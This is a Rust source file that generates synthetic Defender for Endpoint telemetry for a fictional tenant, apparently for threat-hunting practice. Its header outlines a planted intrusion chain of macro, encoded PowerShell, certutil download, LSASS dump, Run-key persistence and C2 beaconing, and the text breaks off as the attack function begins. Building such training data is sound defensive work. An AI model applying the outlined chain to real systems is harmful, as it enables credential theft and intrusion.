//! Defender for Endpoint device tables, from the world's machines and users.
//!
//! Activity is generated as process launches (a parent and a child `Proc`); network, file,
//! image-load, registry and device events then name those same processes as their initiating
//! process, so `ProcessId` / `InitiatingProcessId` chains join across tables. The planted
//! attack (see `synth::PHISH_*`) runs on one workstation: Office macro → encoded PowerShell →
//! certutil download → payload → LSASS dump, discovery and Run-key persistence, beaconing to
//! the C2 address; LOLBins (mshta, regsvr32, bitsadmin) run on a second device.

use base64::Engine;
use rand::Rng;
use rand::rngs::StdRng;
use serde_json::json;

use super::synth::*;
use super::tables::Tables;

pub fn generate(snap: &Snapshot, t: &mut Tables) {
    device_info(snap, t);
    network_info(snap, t);
    let mut ids = Ids::default();
    activity(snap, t, &mut ids);
    logons(snap, t);
    attack(snap, t, &mut ids);
    lolbins(snap, t, &mut ids);
}

/// Process ids, unique within the tenant's device tables.
#[derive(Default)]
struct Ids {
    pid: i64,
}

impl Ids {
    fn pid(&mut self, rng: &mut StdRng) -> i64 {
        self.pid += 1;
        1000 + (self.pid * 4 + rng.random_range(0..4)) % 60_000
    }
}

/// The days (as day-start ticks) a device reported within the 30-day window.
fn reporting_days(snap: &Snapshot, d: &Device) -> Vec<i64> {
    let first = d.first_seen.max(snap.anchor - 30 * TICKS_PER_DAY);
    let last = d.last_seen.min(snap.anchor - TICKS_PER_MINUTE);
    let mut days = Vec::new();
    let mut t = last;
    while t >= first {
        days.push(t);
        t -= TICKS_PER_DAY;
    }
    days
}

fn device_info(snap: &Snapshot, t: &mut Tables) {
    let mut rng = snap.rng("DeviceInfo");
    for (i, d) in snap.devices.iter().enumerate() {
        let owner = snap.owner(i);
        let (device_type, distribution, vendor, model) = match d.os.as_str() {
            "Linux" => ("Server", "Ubuntu", "Microsoft Corporation", "Virtual Machine"),
            "macOS" => ("Workstation", "macOS", "Apple Inc.", "MacBookPro18,3"),
            os if os.contains("Server") => ("Server", "Windows", "Microsoft Corporation", "Virtual Machine"),
            _ => ("Workstation", "Windows", "Dell Inc.", "Latitude 7440"),
        };
        let logged_on = if d.server() {
            json!([])
        } else {
            json!([{"UserName": owner.name, "DomainName": snap.netbios(), "Sid": owner.sid}])
        };
        for (n, day) in reporting_days(snap, d).into_iter().enumerate() {
            let ts = day - rng.random_range(0..TICKS_PER_HOUR);
            let mut row: Row = vec![
                ("Timestamp", dt(ts)),
                ("DeviceId", s(&d.id)),
                ("DeviceName", s(&d.name)),
                ("ClientVersion", s(&d.agent_version)),
                ("PublicIP", s(&d.public_ip)),
                ("OSArchitecture", s("64-bit")),
                ("OSPlatform", s(&d.os)),
                ("OSVersion", s(&d.version)),
                ("OSVersionInfo", s(&d.version)),
                ("OSDistribution", s(distribution)),
                ("IsAzureADJoined", boolean(d.aad_device_id.is_some())),
                (
                    "JoinType",
                    s(if d.aad_device_id.is_some() {
                        "AAD joined"
                    } else if d.windows() {
                        "Domain Joined"
                    } else {
                        ""
                    }),
                ),
                ("AadDeviceId", s(d.aad_device_id.as_deref().unwrap_or(""))),
                ("LoggedOnUsers", json_text(logged_on.clone())),
                ("MachineGroup", s(&d.group)),
                ("ReportId", long(1 + n as i64)),
                ("OnboardingStatus", s(&d.onboarding)),
                ("DeviceCategory", s("Endpoint")),
                ("DeviceType", s(device_type)),
                ("Vendor", s(vendor)),
                ("Model", s(model)),
                ("IsInternetFacing", boolean(false)),
                ("SensorHealthState", s(if d.online { "Active" } else { "Inactive" })),
                ("IsExcluded", boolean(false)),
                ("ExposureLevel", s(&d.exposure)),
                ("AssetValue", s(&d.value)),
                ("DeviceManualTags", json_text(json!(d.tags))),
                ("ConnectivityType", s("Standard")),
                ("IsTransient", boolean(false)),
            ];
            if let Some(b) = d.os_build {
                row.push(("OSBuild", long(i64::from(b))));
            }
            if let Some((vm_id, resource_id, sub)) = &d.azure_vm {
                row.extend([
                    ("AzureResourceId", s(resource_id)),
                    ("AzureVmId", s(vm_id)),
                    ("AzureVmSubscriptionId", s(sub)),
                    ("CloudPlatforms", s("[\"Azure\"]")),
                ]);
            }
            t.push("DeviceInfo", row);
        }
    }
}

fn network_info(snap: &Snapshot, t: &mut Tables) {
    let mut rng = snap.rng("DeviceNetworkInfo");
    for d in &snap.devices {
        let subnet = d.ip.rsplit_once('.').map(|(a, _)| a).unwrap_or("10.0.0");
        let gateway = format!("{subnet}.1");
        let adapter = match d.os.as_str() {
            "Linux" => "eth0",
            "macOS" => "en0",
            _ => "Ethernet0",
        };
        let mac =
            d.mac.as_bytes().chunks(2).map(|c| String::from_utf8_lossy(c).into_owned()).collect::<Vec<_>>().join("-");
        for (n, day) in reporting_days(snap, d).into_iter().enumerate() {
            let ts = day - rng.random_range(0..TICKS_PER_HOUR);
            t.push(
                "DeviceNetworkInfo",
                vec![
                    ("Timestamp", dt(ts)),
                    ("DeviceId", s(&d.id)),
                    ("DeviceName", s(&d.name)),
                    ("NetworkAdapterName", s(adapter)),
                    ("MacAddress", s(&mac)),
                    ("NetworkAdapterType", s("Ethernet")),
                    ("NetworkAdapterStatus", s("Up")),
                    ("TunnelType", s("None")),
                    (
                        "ConnectedNetworks",
                        json_text(json!([{"Name": format!("corp.{}.local", snap.tenant_name), "Description": "Corporate network", "IsConnectedToInternet": true, "Category": "Domain"}])),
                    ),
                    ("DnsAddresses", json_text(json!([format!("{subnet}.2")]))),
                    ("IPv4Dhcp", s(&gateway)),
                    ("DefaultGateways", json_text(json!([gateway]))),
                    (
                        "IPAddresses",
                        json_text(json!([{"IPAddress": d.ip, "SubnetPrefix": 24, "AddressType": "Private"}])),
                    ),
                    ("ReportId", long(1_000_000 + n as i64)),
                    ("NetworkAdapterVendor", s("Intel Corporation")),
                    ("OnboardingStatus", s(&d.onboarding)),
                    ("NetworkAdapterDnsSuffix", s(&format!("corp.{}.local", snap.tenant_name))),
                ],
            );
        }
    }
}

/// A benign program launch: parent → child, what it talks to, which file it touches.
struct Launch {
    parent: &'static str,
    file: &'static str,
    cmd: &'static str,
    /// Runs as SYSTEM / root rather than the device's user.
    system: bool,
    company: &'static str,
    product: &'static str,
    hosts: &'static [&'static str],
    /// A file the program writes (`{user}` is the account name).
    writes: Option<&'static str>,
}

const MS: &str = "Microsoft Corporation";
const WIN: &str = "Microsoft® Windows® Operating System";

const fn launch(
    parent: &'static str,
    file: &'static str,
    cmd: &'static str,
    system: bool,
    hosts: &'static [&'static str],
) -> Launch {
    Launch { parent, file, cmd, system, company: MS, product: WIN, hosts, writes: None }
}

const WINDOWS_CLIENT: &[Launch] = &[
    Launch {
        company: "Google LLC",
        product: "Google Chrome",
        writes: Some(r"C:\Users\{user}\Downloads\agenda.pdf"),
        ..launch(
            r"C:\Windows\explorer.exe",
            r"C:\Program Files\Google\Chrome\Application\chrome.exe",
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe""#,
            false,
            &["www.google.com", "login.microsoftonline.com", "www.bing.com"],
        )
    },
    Launch {
        product: "Microsoft Edge",
        ..launch(
            r"C:\Windows\explorer.exe",
            r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
            r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://{tenant}.sharepoint.com/"#,
            false,
            &["{tenant}.sharepoint.com", "login.microsoftonline.com"],
        )
    },
    Launch {
        product: "Microsoft Outlook",
        ..launch(
            r"C:\Windows\explorer.exe",
            r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
            r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE""#,
            false,
            &["outlook.office365.com"],
        )
    },
    Launch {
        product: "Microsoft Office",
        writes: Some(r"C:\Users\{user}\Documents\Quarterly review.docx"),
        ..launch(
            r"C:\Windows\explorer.exe",
            r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Documents\Quarterly review.docx""#,
            false,
            &["{tenant}.sharepoint.com"],
        )
    },
    Launch {
        product: "Microsoft Office",
        writes: Some(r"C:\Users\{user}\Documents\Budget 2025.xlsx"),
        ..launch(
            r"C:\Windows\explorer.exe",
            r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
            r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE""#,
            false,
            &[],
        )
    },
    Launch {
        product: "Microsoft Teams",
        ..launch(
            r"C:\Windows\explorer.exe",
            r"C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe",
            r#""C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe" --system-initiated"#,
            false,
            &["teams.microsoft.com"],
        )
    },
    Launch {
        product: "Microsoft OneDrive",
        writes: Some(r"C:\Users\{user}\OneDrive - Contoso\Shared\Team notes.docx"),
        ..launch(
            r"C:\Windows\explorer.exe",
            r"C:\Program Files\Microsoft OneDrive\OneDrive.exe",
            r#""C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background"#,
            false,
            &["{tenant}-my.sharepoint.com"],
        )
    },
    launch(
        r"C:\Windows\explorer.exe",
        r"C:\Windows\System32\notepad.exe",
        r#""C:\Windows\System32\notepad.exe" C:\Users\{user}\Desktop\notes.txt"#,
        false,
        &[],
    ),
    launch(r"C:\Windows\explorer.exe", r"C:\Windows\System32\cmd.exe", r#""C:\Windows\System32\cmd.exe""#, false, &[]),
    launch(r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\ipconfig.exe", "ipconfig /all", false, &[]),
    launch(
        r"C:\Windows\System32\services.exe",
        r"C:\Windows\System32\svchost.exe",
        "svchost.exe -k netsvcs -p -s Schedule",
        true,
        &[],
    ),
    launch(
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\System32\taskhostw.exe",
        "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
        true,
        &[],
    ),
    launch(
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\System32\wuauclt.exe",
        r#""C:\Windows\System32\wuauclt.exe" /RunHandlerComServer"#,
        true,
        &["fe2cr.update.microsoft.com"],
    ),
    launch(
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\System32\SearchProtocolHost.exe",
        r#""C:\Windows\System32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe1_ Global\UsGthrCtrlFltPipeMssGthrPipe1 1 -2147483646 "Software\Microsoft\Windows Search""#,
        true,
        &[],
    ),
    launch(
        r"C:\Program Files\Windows Defender Advanced Threat Protection\MsSense.exe",
        r"C:\Program Files\Windows Defender Advanced Threat Protection\SenseCncProxy.exe",
        r#""C:\Program Files\Windows Defender Advanced Threat Protection\SenseCncProxy.exe""#,
        true,
        &["winatp-gw-weu.microsoft.com"],
    ),
    launch(
        r"C:\Windows\System32\svchost.exe",
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe",
        r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges"#,
        true,
        &["definitionupdates.microsoft.com"],
    ),
    launch(
        r"C:\Program Files (x86)\Microsoft Intune Management Extension\Microsoft.Management.Services.IntuneWindowsAgent.exe",
        r"C:\Program Files (x86)\Microsoft Intune Management Extension\AgentExecutor.exe",
        r#""C:\Program Files (x86)\Microsoft Intune Management Extension\AgentExecutor.exe" -powershell "C:\Program Files (x86)\Microsoft Intune Management Extension\Policies\Scripts\compliance.ps1""#,
        true,
        &["manage.microsoft.com"],
    ),
    launch(
        r"C:\Windows\explorer.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -File C:\IT\Scripts\Get-Inventory.ps1"#,
        false,
        &[],
    ),
];

const WINDOWS_SERVER: &[Launch] = &[
    launch(
        r"C:\Windows\System32\services.exe",
        r"C:\Windows\System32\svchost.exe",
        "svchost.exe -k netsvcs -p -s Schedule",
        true,
        &[],
    ),
    launch(
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\System32\inetsrv\w3wp.exe",
        r#"c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll""#,
        true,
        &[],
    ),
    Launch {
        product: "Microsoft SQL Server",
        ..launch(
            r"C:\Windows\System32\services.exe",
            r"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe",
            r#""C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER"#,
            true,
            &[],
        )
    },
    launch(
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\System32\wsmprovhost.exe",
        "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
        true,
        &[],
    ),
    launch(
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\System32\wuauclt.exe",
        r#""C:\Windows\System32\wuauclt.exe" /RunHandlerComServer"#,
        true,
        &["fe2cr.update.microsoft.com"],
    ),
    launch(
        r"C:\Program Files\Windows Defender Advanced Threat Protection\MsSense.exe",
        r"C:\Program Files\Windows Defender Advanced Threat Protection\SenseCncProxy.exe",
        r#""C:\Program Files\Windows Defender Advanced Threat Protection\SenseCncProxy.exe""#,
        true,
        &["winatp-gw-weu.microsoft.com"],
    ),
];

const LINUX: &[Launch] = &[
    launch("/usr/lib/systemd/systemd", "/usr/sbin/sshd", "sshd: {user} [priv]", true, &[]),
    launch("/usr/sbin/sshd", "/usr/bin/bash", "-bash", false, &[]),
    launch("/usr/bin/bash", "/usr/bin/sudo", "sudo apt-get update", false, &[]),
    launch(
        "/usr/bin/sudo",
        "/usr/bin/apt-get",
        "apt-get update",
        true,
        &["archive.ubuntu.com", "packages.microsoft.com"],
    ),
    launch(
        "/usr/sbin/cron",
        "/usr/bin/python3.10",
        "/usr/bin/python3 /opt/backup/run_backup.py --target blob",
        true,
        &["{tenant}backup.blob.core.windows.net"],
    ),
    launch("/usr/bin/bash", "/usr/bin/git", "git pull origin main", false, &["github.com"]),
    launch(
        "/usr/lib/systemd/systemd",
        "/opt/microsoft/mdatp/sbin/wdavdaemon",
        "/opt/microsoft/mdatp/sbin/wdavdaemon",
        true,
        &["winatp-gw-weu.microsoft.com"],
    ),
    launch(
        "/usr/bin/bash",
        "/usr/bin/curl",
        "curl -fsSL https://packages.microsoft.com/keys/microsoft.asc",
        false,
        &["packages.microsoft.com"],
    ),
    launch("/usr/bin/bash", "/usr/bin/systemctl", "systemctl status nginx", false, &[]),
];

const MACOS: &[Launch] = &[
    Launch {
        company: "Apple Inc.",
        product: "Safari",
        ..launch(
            "/sbin/launchd",
            "/Applications/Safari.app/Contents/MacOS/Safari",
            "/Applications/Safari.app/Contents/MacOS/Safari",
            false,
            &["www.apple.com", "login.microsoftonline.com"],
        )
    },
    Launch {
        company: "Apple Inc.",
        product: "macOS",
        ..launch(
            "/sbin/launchd",
            "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared",
            "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared -s mdworker -c MDSImporterWorker -m com.apple.mdworker.shared",
            true,
            &[],
        )
    },
    Launch { company: "", product: "", ..launch("/bin/zsh", "/usr/bin/git", "git status", false, &[]) },
    Launch {
        company: "",
        product: "",
        ..launch(
            "/bin/zsh",
            "/opt/homebrew/bin/brew",
            "/opt/homebrew/bin/brew update",
            false,
            &["github.com", "ghcr.io"],
        )
    },
    Launch {
        company: "Apple Inc.",
        product: "macOS",
        ..launch(
            "/sbin/launchd",
            "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated",
            "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated",
            true,
            &["swscan.apple.com"],
        )
    },
    Launch {
        product: "Microsoft Teams",
        ..launch(
            "/sbin/launchd",
            "/Applications/Microsoft Teams.app/Contents/MacOS/MSTeams",
            "/Applications/Microsoft Teams.app/Contents/MacOS/MSTeams",
            false,
            &["teams.microsoft.com"],
        )
    },
];

fn file_of(path: &str) -> &str {
    path.rsplit(['\\', '/']).next().unwrap_or(path)
}

fn fill(text: &str, snap: &Snapshot, account: &Account) -> String {
    text.replace("{user}", &account.name).replace("{tenant}", &snap.tenant_name.replace('-', ""))
}

/// Builds the parent and child processes of a launch at `when`.
fn processes(
    snap: &Snapshot,
    rng: &mut StdRng,
    ids: &mut Ids,
    l: &Launch,
    account: &Account,
    when: i64,
) -> (Proc, Proc) {
    // User shells start user programs as the user; everything else is started by a service.
    let user_shell = ["explorer.exe", "bash", "zsh", "cmd.exe"].iter().any(|p| l.parent.ends_with(p));
    let parent_account = if user_shell && !l.system {
        account.clone()
    } else if l.parent.starts_with('/') {
        Account::root()
    } else {
        Account::system()
    };
    let logon_id = if account.is_system() { 999 } else { 0x3e7_0000 + rng.random_range(0..0xffff) };
    let parent_created = when - rng.random_range(TICKS_PER_MINUTE..6 * TICKS_PER_HOUR);
    let parent = Proc {
        file: file_of(l.parent).to_string(),
        path: l.parent.to_string(),
        cmd: file_of(l.parent).to_string(),
        pid: ids.pid(rng),
        created: parent_created,
        account: parent_account,
        logon_id,
        company: MS,
        product: WIN,
        description: "",
        signed: true,
        parent_file: "userinit.exe".into(),
        parent_pid: 600 + rng.random_range(0..200),
        parent_created: parent_created - TICKS_PER_HOUR,
    };
    let child = Proc {
        file: file_of(l.file).to_string(),
        path: fill(l.file, snap, account),
        cmd: fill(l.cmd, snap, account),
        pid: ids.pid(rng),
        created: when,
        account: account.clone(),
        logon_id,
        company: l.company,
        product: l.product,
        description: "",
        signed: true,
        parent_file: parent.file.clone(),
        parent_pid: parent.pid,
        parent_created: parent.created,
    };
    (parent, child)
}

fn process_event(t: &mut Tables, d: &Device, parent: &Proc, child: &Proc) {
    let mut row: Row = vec![("Timestamp", dt(child.created)), ("ActionType", s("ProcessCreated"))];
    device_cells(d, t.report_id(), &mut row);
    child.created(&mut row);
    parent.initiating(&mut row);
    t.push("DeviceProcessEvents", row);
}

fn connection(t: &mut Tables, rng: &mut StdRng, d: &Device, p: &Proc, host: &str, port: i32, when: i64) {
    let mut row: Row = vec![
        ("Timestamp", dt(when)),
        ("ActionType", s("ConnectionSuccess")),
        ("RemoteIP", s(&Snapshot::resolve(host))),
        ("RemotePort", int(port)),
        ("RemoteUrl", s(host)),
        ("LocalIP", s(&d.ip)),
        ("LocalPort", int(rng.random_range(49152..65535))),
        ("Protocol", s("Tcp")),
        ("LocalIPType", s("Private")),
        ("RemoteIPType", s("Public")),
    ];
    device_cells(d, t.report_id(), &mut row);
    p.initiating(&mut row);
    t.push("DeviceNetworkEvents", row);
}

fn file_event(t: &mut Tables, d: &Device, p: &Proc, action: &str, path: &str, origin: Option<&str>, when: i64) {
    let h = hashes(path);
    let mut row: Row = vec![
        ("Timestamp", dt(when)),
        ("ActionType", s(action)),
        ("FileName", s(file_of(path))),
        ("FolderPath", s(path)),
        ("SHA1", s(&h.sha1)),
        ("SHA256", s(&h.sha256)),
        ("MD5", s(&h.md5)),
        ("FileSize", long(h.size)),
    ];
    if let Some(url) = origin {
        row.push(("FileOriginUrl", s(url)));
        if let Some(host) = url.split('/').nth(2) {
            row.push(("FileOriginIP", s(&Snapshot::resolve(host))));
        }
    }
    device_cells(d, t.report_id(), &mut row);
    p.initiating(&mut row);
    t.push("DeviceFileEvents", row);
}

fn image_load(t: &mut Tables, d: &Device, p: &Proc, dll: &str, when: i64) {
    let path = format!(r"C:\Windows\System32\{dll}");
    let h = hashes(&path);
    let mut row: Row = vec![
        ("Timestamp", dt(when)),
        ("ActionType", s("ImageLoaded")),
        ("FileName", s(dll)),
        ("FolderPath", s(&path)),
        ("SHA1", s(&h.sha1)),
        ("SHA256", s(&h.sha256)),
        ("MD5", s(&h.md5)),
        ("FileSize", long(h.size)),
    ];
    device_cells(d, t.report_id(), &mut row);
    p.initiating(&mut row);
    t.push("DeviceImageLoadEvents", row);
}

fn registry(t: &mut Tables, d: &Device, p: &Proc, key: &str, name: &str, data: &str, when: i64) {
    let mut row: Row = vec![
        ("Timestamp", dt(when)),
        ("ActionType", s("RegistryValueSet")),
        ("RegistryKey", s(key)),
        ("RegistryValueType", s("String")),
        ("RegistryValueName", s(name)),
        ("RegistryValueData", s(data)),
    ];
    device_cells(d, t.report_id(), &mut row);
    p.initiating(&mut row);
    t.push("DeviceRegistryEvents", row);
}

fn device_event(t: &mut Tables, d: &Device, p: &Proc, action: &str, extra: Row, when: i64) {
    let mut row: Row = vec![("Timestamp", dt(when)), ("ActionType", s(action))];
    row.extend(extra);
    device_cells(d, t.report_id(), &mut row);
    p.initiating(&mut row);
    t.push("DeviceEvents", row);
}

const DLLS: &[&str] =
    &["ntdll.dll", "kernel32.dll", "user32.dll", "wininet.dll", "crypt32.dll", "bcrypt.dll", "winhttp.dll"];

/// Everyday activity on every device that reported in the window.
fn activity(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
    let mut rng = snap.rng("activity");
    for (i, d) in snap.devices.iter().enumerate() {
        let days = reporting_days(snap, d);
        if days.is_empty() {
            continue;
        }
        let owner = snap.account(snap.owner(i));
        let admin = snap.account(&snap.users[(i * 3 + 1) % snap.users.len()]);
        let catalogue: &[Launch] = match d.os.as_str() {
            "Linux" => LINUX,
            "macOS" => MACOS,
            os if os.contains("Server") => WINDOWS_SERVER,
            _ => WINDOWS_CLIENT,
        };
        let launches = if d.online { 80 } else { 25 };
        let window_start = *days.last().unwrap_or(&snap.anchor) - TICKS_PER_DAY;
        let window_end = days[0];
        for _ in 0..launches {
            let l = pick(&mut rng, catalogue);
            let account = if l.system {
                if d.windows() { Account::system() } else { Account::root() }
            } else if d.server() {
                admin.clone()
            } else {
                owner.clone()
            };
            let when = rng.random_range(window_start..window_end.max(window_start + 1));
            let (parent, child) = processes(snap, &mut rng, ids, l, &account, when);
            process_event(t, d, &parent, &child);
            for host in l.hosts {
                let host = fill(host, snap, &account);
                let port = if host.contains("archive.ubuntu.com") { 80 } else { 443 };
                let at = when + rng.random_range(TICKS_PER_SECOND..TICKS_PER_MINUTE);
                connection(t, &mut rng, d, &child, &host, port, at);
            }
            if let Some(w) = l.writes {
                let path = fill(w, snap, &account);
                let origin = path.contains("Downloads").then_some("https://www.google.com/agenda.pdf");
                let action = if origin.is_some() { "FileCreated" } else { "FileModified" };
                file_event(t, d, &child, action, &path, origin, when + 2 * TICKS_PER_MINUTE);
            }
            if d.windows() && rng.random_bool(0.35) {
                for _ in 0..2 {
                    let dll = *pick(&mut rng, DLLS);
                    image_load(t, d, &child, dll, when + TICKS_PER_SECOND);
                }
            }
            if d.windows() && l.system && rng.random_bool(0.5) {
                registry(
                    t,
                    d,
                    &child,
                    r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\WindowsUpdate\Auto Update",
                    "LastOnlineScanTimeForAppCategory",
                    &format!("{}", when / TICKS_PER_SECOND),
                    when + 3 * TICKS_PER_SECOND,
                );
            } else if d.windows() && !l.system && rng.random_bool(0.3) {
                // Explorer's per-user MRU list records what the user opened.
                registry(
                    t,
                    d,
                    &child,
                    &format!(
                        r"HKEY_CURRENT_USER\{}\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs",
                        account.sid
                    ),
                    "MRUListEx",
                    &child.file,
                    when + 3 * TICKS_PER_SECOND,
                );
            }
            // Programs leave temporary files behind (written, then usually deleted).
            if rng.random_bool(0.4) {
                let name = format!("{:x}.tmp", rng.random::<u32>());
                let path = match (d.windows(), account.is_system()) {
                    (true, true) => format!(r"C:\Windows\Temp\{name}"),
                    (true, false) => {
                        format!(r"C:\Users\{}\AppData\Local\Temp\{name}", account.name)
                    }
                    (false, _) => format!("/tmp/{name}"),
                };
                file_event(t, d, &child, "FileCreated", &path, None, when + TICKS_PER_SECOND);
                if rng.random_bool(0.6) {
                    file_event(t, d, &child, "FileDeleted", &path, None, when + 30 * TICKS_PER_SECOND);
                }
            }
            if child.file.eq_ignore_ascii_case("powershell.exe") {
                device_event(
                    t,
                    d,
                    &child,
                    "PowerShellCommand",
                    vec![("AdditionalFields", json_text(json!({"Command": "Get-CimInstance"})))],
                    when + 5 * TICKS_PER_SECOND,
                );
            }
            if child.file.eq_ignore_ascii_case("chrome.exe") || child.file.eq_ignore_ascii_case("msedge.exe") {
                device_event(
                    t,
                    d,
                    &child,
                    "BrowserLaunchedToOpenUrl",
                    vec![(
                        "RemoteUrl",
                        s(&format!("https://{}.sharepoint.com/sites/intranet", snap.tenant_name.replace('-', ""))),
                    )],
                    when,
                );
            }
        }
        // Scheduled antivirus scans every third day.
        if d.windows() {
            for day in days.iter().step_by(3) {
                let scanner = Proc {
                    file: "MsMpEng.exe".into(),
                    path: r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe".into(),
                    cmd: r#""MsMpEng.exe""#.into(),
                    pid: ids.pid(&mut rng),
                    created: day - 20 * TICKS_PER_DAY,
                    account: Account::system(),
                    logon_id: 999,
                    company: MS,
                    product: "Microsoft Defender Antivirus",
                    description: "Antimalware Service Executable",
                    signed: true,
                    parent_file: "services.exe".into(),
                    parent_pid: 700,
                    parent_created: day - 20 * TICKS_PER_DAY,
                };
                device_event(
                    t,
                    d,
                    &scanner,
                    "AntivirusScanCompleted",
                    vec![("AdditionalFields", json_text(json!({"ScanTypeIndex": "Quick", "DurationInSeconds": 312})))],
                    day - 2 * TICKS_PER_HOUR,
                );
            }
        }
    }
}

/// Interactive, network and service logons, with a few typos (failed logons).
fn logons(snap: &Snapshot, t: &mut Tables) {
    let mut rng = snap.rng("DeviceLogonEvents");
    let clients: Vec<&Device> = snap.devices.iter().filter(|d| !d.server()).collect();
    for (i, d) in snap.devices.iter().enumerate() {
        let owner = snap.account(snap.owner(i));
        for day in reporting_days(snap, d) {
            let logonui = Proc {
                file: if d.windows() { "lsass.exe".into() } else { "sshd".into() },
                path: if d.windows() { r"C:\Windows\System32\lsass.exe".into() } else { "/usr/sbin/sshd".into() },
                cmd: if d.windows() {
                    r"C:\Windows\system32\lsass.exe".into()
                } else {
                    "sshd: /usr/sbin/sshd -D".into()
                },
                pid: 700 + (i as i64 % 50),
                created: day - 7 * TICKS_PER_DAY,
                account: if d.windows() { Account::system() } else { Account::root() },
                logon_id: 999,
                company: MS,
                product: WIN,
                description: "",
                signed: true,
                parent_file: "wininit.exe".into(),
                parent_pid: 500,
                parent_created: day - 7 * TICKS_PER_DAY,
            };
            let (user, logon_type, remote) = if d.server() {
                let admin = snap.account(&snap.users[(i * 3 + 1) % snap.users.len()]);
                let from = (!clients.is_empty()).then(|| clients[rng.random_range(0..clients.len())]);
                (admin, if d.windows() { "RemoteInteractive" } else { "Network" }, from)
            } else {
                (owner.clone(), "Interactive", None)
            };
            let failures = if rng.random_bool(0.1) { 1 + rng.random_range(0..2) } else { 0 };
            let when = day - rng.random_range(0..10 * TICKS_PER_HOUR);
            for k in 0..=failures {
                let failed = k < failures;
                let mut row: Row = vec![
                    ("Timestamp", dt(when + k as i64 * 20 * TICKS_PER_SECOND)),
                    ("ActionType", s(if failed { "LogonFailed" } else { "LogonSuccess" })),
                    ("LogonType", s(logon_type)),
                    ("AccountDomain", s(&user.domain)),
                    ("AccountName", s(&user.name)),
                    ("AccountSid", s(&user.sid)),
                    ("Protocol", s(if d.windows() { "Kerberos" } else { "" })),
                    ("IsLocalAdmin", boolean(d.server())),
                    ("LogonId", long(0x3e7_0000 + rng.random_range(0..0xffff))),
                ];
                if failed {
                    row.push(("FailureReason", s("InvalidUserNameOrPassword")));
                }
                if let Some(from) = remote {
                    row.extend([
                        ("RemoteDeviceName", s(&from.name)),
                        ("RemoteIP", s(&from.ip)),
                        ("RemoteIPType", s("Private")),
                        ("RemotePort", int(rng.random_range(49152..65535))),
                    ]);
                }
                device_cells(d, t.report_id(), &mut row);
                logonui.initiating(&mut row);
                t.push("DeviceLogonEvents", row);
            }
            // The machine's own service logon once a day.
            let mut row: Row = vec![
                ("Timestamp", dt(day - 23 * TICKS_PER_HOUR)),
                ("ActionType", s("LogonSuccess")),
                ("LogonType", s("Service")),
                ("AccountDomain", s(if d.windows() { "nt authority" } else { "" })),
                ("AccountName", s(if d.windows() { "system" } else { "root" })),
                ("AccountSid", s(if d.windows() { "S-1-5-18" } else { "" })),
                ("IsLocalAdmin", boolean(true)),
                ("LogonId", long(999)),
            ];
            device_cells(d, t.report_id(), &mut row);
            logonui.initiating(&mut row);
            t.push("DeviceLogonEvents", row);
        }
    }
}

/// Base64 of the UTF-16LE text, as `powershell -EncodedCommand` takes it.
pub fn encode_powershell(script: &str) -> String {
    let bytes: Vec<u8> = script.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// The planted intrusion on the victim workstation, minutes after the phishing click.
fn attack(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
    let Some(vi) = snap.victim_device() else {
        return;
    };
    let d = &snap.devices[vi];
    let user = snap.account(snap.owner(vi));
    let mut rng = snap.rng("attack");
    let t0 = snap.story_start() + 13 * TICKS_PER_MINUTE;
    let u = &user.name;
    let temp = format!(r"C:\Users\{u}\AppData\Local\Temp");
    let docm = format!(r"C:\Users\{u}\Downloads\Invoice_INV-2291.docm");
    let explorer = Proc {
        file: "explorer.exe".into(),
        path: r"C:\Windows\explorer.exe".into(),
        cmd: r"C:\Windows\Explorer.EXE".into(),
        pid: ids.pid(&mut rng),
